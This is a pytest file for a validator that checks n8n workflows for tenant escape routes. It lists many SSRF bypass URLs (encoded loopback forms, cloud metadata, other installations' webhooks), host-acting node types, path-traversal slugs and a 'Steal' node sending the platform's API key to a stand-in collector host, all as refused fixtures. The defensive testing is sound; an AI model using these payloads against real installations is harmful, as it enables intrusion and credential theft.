"""A hostile tenant's ways out of its installation, each refused by a `must` rule.

Every spelling of n8n's own host, of an internal address and of another
installation's webhook route is tried, next to outside addresses that must pass.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from reconciler.load.source import FolderSource
from reconciler.validate.engine import lint_source, select_rules
from reconciler.validate.rules import Options
from tests.validate.conftest import LEAD, node, workflow

MAIN_WF = f"{LEAD}/workflows/main.json"
OWN = "{{PROCDATA_PROCESS_ID_ATADCORP}}/{{USERDATA_PROCESS_INSTANCE_UID_ATADRESU}}"


def _must(root: Path) -> list[tuple[str, str | None, str]]:
    result = lint_source(FolderSource(root), select_rules(), Options())
    return [(p.rule, p.field, p.message) for p in result.problems if p.severity == "must"]


def _with(root: Path, extra: dict[str, Any]) -> list[tuple[str, str | None, str]]:
    workflow(MAIN_WF, lambda c: c["nodes"].append(extra))(root)
    return _must(root)


def _http(url: str) -> dict[str, Any]:
    return node("Peek", "n8n-nodes-base.httpRequest", retryOnFail=True,
                parameters={"url": url, "options": {}})


REFUSED = [
    "http://localhost:5678/webhook/inbox-triage/inbox-triage-erin/triage",
    "http://127.0.0.1:5678/api/v1/workflows",
    "http://[::1]:5678/rest/workflows",
    "http://[::ffff:127.0.0.1]:5678/rest/login",
    "http://127.1:5678/x", "http://2130706433/x", "http://0x7f000001/x",
    "http://0177.0.0.1/x", "http://0.0.0.0:5678/x", "http://169.254.169.254/latest/",
    "http://10.0.0.7/x", "http://192.168.1.1/x", "http://n8n.internal/x",
    "http://metadata.google.internal/x", "http://api.localhost/x", "http://LOCALHOST./x",
    "http://%6c%6fcalhost:5678/x", "http://127\u30020\u30020\u30021/x",
    "http://\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54/x",
    "http://good.example.com@127.0.0.1/x", "file:///home/node/.n8n/config",
    "localhost:5678/webhook/x",
    # another installation's webhook on n8n's public address
    "https://n8n.example.com/webhook/inbox-triage/inbox-triage-erin/triage",
    "https://n8n.example.com/webhook-test/daily-digest/x/y", "https://n8n.example.com/form/daily-digest/a",
    "https://n8n.example.com//WEBHOOK/%69nbox-triage/x",
    f"https://n8n.example.com/webhook/{OWN.split('/')[0]}/lead-enrichment-globex/enrich",
    # a host known only at run time
    "={{ $json.url }}", "={{ 'http://local' + 'host:5678' }}/x",
    "=http://{{ $json.host }}/x", "={{ORGSECRET_CRM_URL_TERCESORG}}/x",
]
ALLOWED = [
    "https://api.example.com/v1/leads", "=https://api.example.com/v1/{{ $json.id }}",
    "https://8.8.8.8/x", f"https://n8n.example.com/webhook/{OWN}/enrich",
    "https://api.example.com/api/v1/webhook/x",
]


@pytest.mark.parametrize("url", REFUSED)
def test_a_request_to_n8n_its_host_or_another_installation_is_refused(
        repo: Path, url: str) -> None:
    found = _with(repo, _http(url))
    assert [(r, f) for r, f, _ in found] == [("EGRESS-URL", "/nodes/4/parameters/url")], found


@pytest.mark.parametrize("url", ALLOWED)
def test_a_request_to_an_outside_service_passes(repo: Path, url: str) -> None:
    assert _with(repo, _http(url)) == []


def test_a_code_node_naming_the_n8n_host_is_refused(repo: Path) -> None:
    code = node("Peek", "n8n-nodes-base.code", parameters={"jsCode": (
        "return this.helpers.httpRequest({url: 'http://127.0.0.1:5678/webhook/"
        "inbox-triage/inbox-triage-erin/triage'});")})
    assert [(r, f) for r, f, _ in _with(repo, code)] == [
        ("EGRESS-URL", "/nodes/4/parameters/jsCode")]


def test_an_instance_parameter_is_checked_with_every_installation_s_value(repo: Path) -> None:
    (repo / f"{LEAD}/use-case.yaml").write_text(
        (repo / f"{LEAD}/use-case.yaml").read_text(encoding="utf-8").replace(
            "\nparameters:\n", "\nparameters:\n  CRM_URL: {type: string, default: "
            "'https://crm.example.com'}\n", 1), encoding="utf-8")
    url = "={{INSTPARM_CRM_URL_MRAPTSNI}}/leads"
    assert _with(repo, _http(url)) == []
    instance = repo / "instances/lead-enrichment-globex.yaml"
    instance.write_text(instance.read_text(encoding="utf-8").replace(
        "MIN_SCORE: 65", "MIN_SCORE: 65\n  CRM_URL: http://127.0.0.1:5678"), encoding="utf-8")
    assert [r for r, _, _ in _must(repo)] == ["EGRESS-URL"]


@pytest.mark.parametrize("kind", ["n8n-nodes-base.executeCommand", "n8n-nodes-base.readWriteFile",
                                  "n8n-nodes-base.n8n", "n8n-nodes-base.localFileTrigger",
                                  "n8n-nodes-base.git"])
def test_nodes_acting_on_the_shared_host_are_refused(repo: Path, kind: str) -> None:
    found = _with(repo, node("Host", kind))
    assert ("EGRESS-HOST-NODES", "/nodes/4") in [(r, f) for r, f, _ in found], found


@pytest.mark.parametrize("params", [
    {"source": "parameter", "workflowJson": "{\"nodes\": []}"},
    {"source": "database", "workflowId": {"__rl": True, "mode": "id", "value": "a1b2c3"}},
    {"source": "database", "workflowId": "={{ $json.target }}"},
    {"source": "url", "workflowUrl": "https://example.com/wf.json"},
])
def test_the_agent_s_workflow_tool_calls_only_through_subwkfl(
        repo: Path, params: dict[str, Any]) -> None:
    tool = node("Tool", "@n8n/n8n-nodes-langchain.toolWorkflow", parameters=params)
    found = _with(repo, tool)
    assert "PLATFORM-SUBWKFL-CALL" in [r for r, _, _ in found], found


@pytest.mark.parametrize("slug", ["../../inbox-triage/inbox-triage-erin/enrich", "./enrich",
                                  "x/../enrich", "enrich/.."])
def test_a_webhook_path_with_dot_segments_is_refused(repo: Path, slug: str) -> None:
    def change(content: dict[str, Any]) -> None:
        content["nodes"][0]["parameters"]["path"] = f"{OWN}/{slug}"
    workflow(MAIN_WF, change)(repo)
    assert "PLATFORM-WEBHOOK-PATH" in [r for r, _, _ in _must(repo)]


PLATFORM_KEY = {"openAiApi": {"id": "{{SYSCREDS_OPENAI_ID_SDERCSYS}}",
                              "name": "{{SYSCREDS_OPENAI_NAME_SDERCSYS}}"}}
ORG_KEY = {"slackApi": {"id": "{{ORGCRED_SLACK_ID_DERCGRO}}",
                        "name": "{{ORGCRED_SLACK_NAME_DERCGRO}}"}}


def test_the_platform_s_credential_is_not_sent_where_the_template_says(repo: Path) -> None:
    steal = node("Steal", "n8n-nodes-base.httpRequest", retryOnFail=True,
                 credentials=PLATFORM_KEY, parameters={
                     "url": "https://collector.example.com/", "nodeCredentialType": "openAiApi",
                     "authentication": "predefinedCredentialType"})
    assert [(r, f) for r, f, _ in _with(repo, steal)] == [
        ("EGRESS-PLATFORM-CREDENTIAL", "/nodes/4/credentials")]


def test_a_flexcred_on_a_redirected_model_node_is_refused(repo: Path) -> None:
    summarize = f"{LEAD}/workflows/summarize.json"
    workflow(summarize, lambda c: c["nodes"][2]["parameters"]["options"].update(
        baseURL="https://collector.example.com/v1"))(repo)
    assert [(r, f) for r, f, _ in _must(repo)] == [
        ("EGRESS-PLATFORM-CREDENTIAL", "/nodes/2/parameters/options/baseURL")]


def test_an_organization_s_own_credential_on_a_request_node_passes(repo: Path) -> None:
    own = node("Post", "n8n-nodes-base.httpRequest", retryOnFail=True, credentials=ORG_KEY,
               parameters={"url": "https://slack.com/api/chat.postMessage"})
    assert _with(repo, own) == []


@pytest.mark.parametrize("kind, key", [("n8n-nodes-base.graphql", "endpoint"),
                                       ("@n8n/n8n-nodes-langchain.mcpClientTool",
                                        "endpointUrl")])
def test_other_request_nodes_need_a_host_known_before_they_run(
        repo: Path, kind: str, key: str) -> None:
    found = _with(repo, node("Ask", kind, parameters={key: "={{ $json.where }}"}))
    assert [(r, f) for r, f, _ in found] == [("EGRESS-URL", f"/nodes/4/parameters/{key}")]


@pytest.mark.parametrize("url, refused", [
    ("https://api.openai.com/v1/chat/completions", False),
    ("https://api.openai.com@collector.example.com/v1", True),
    ("https://api.openai.com.collector.example.com/v1", True),
    ("=https://{{ $json.host }}/v1", True),
    ("https://api.anthropic.com/v1/messages", True),  # not the OpenAI key's service
])
def test_a_request_node_takes_the_platform_s_key_only_to_its_own_service(
        repo: Path, url: str, refused: bool) -> None:
    call = node("Ask", "n8n-nodes-base.httpRequest", retryOnFail=True,
                credentials=PLATFORM_KEY, parameters={"url": url})
    rules = [r for r, _, _ in _with(repo, call)]
    assert ("EGRESS-PLATFORM-CREDENTIAL" in rules) is refused, rules
